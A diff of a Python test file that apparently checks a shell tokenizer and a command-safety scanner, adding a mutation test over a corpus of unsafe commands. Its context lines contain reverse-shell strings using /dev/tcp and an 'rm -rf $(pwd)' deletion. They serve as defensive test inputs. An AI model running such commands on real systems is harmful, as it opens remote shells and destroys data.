@@ -89,3 +89,19 @@ def test_tokens_keep_redirections_whole_and_refuse_expansions():
     assert tokens("bash -i >& /dev/tcp/h/1 0>&1") == ["bash", "-i", ">&", "/dev/tcp/h/1", "0>&1"]
     assert tokens("exec 196<>/dev/tcp/h/1") == ["exec", "196<>", "/dev/tcp/h/1"]
     assert tokens("rm -rf $(pwd)") is None and tokens("cat <<EOF\nx\nEOF") is None
+
+
+def test_v4_rows_keep_the_scanners_own_verdict_through_every_rewrite():
+    # The v4 rows' categories are the writer's guesses (an etcd prefix wipe is database or infrastructure):
+    # what must hold is that a rewrite never changes what the scanner says about the row.
+    from shelltune.safety import scan_command
+
+    def category(cmd: str) -> str | None:
+        found = scan_command(cmd)
+        return found.category if found else None
+
+    rows = load_corpus(ROOT / "tests" / "data" / "safety_v4.jsonl")
+    verdicts = [(e.cmd, category(e.cmd)) for e in rows]
+    outcomes = mutate_all([(cmd, got is not None, got or "") for cmd, got in verdicts], category)
+    assert len(outcomes) >= 10_000
+    assert [o for o in outcomes if not o.survived] == []
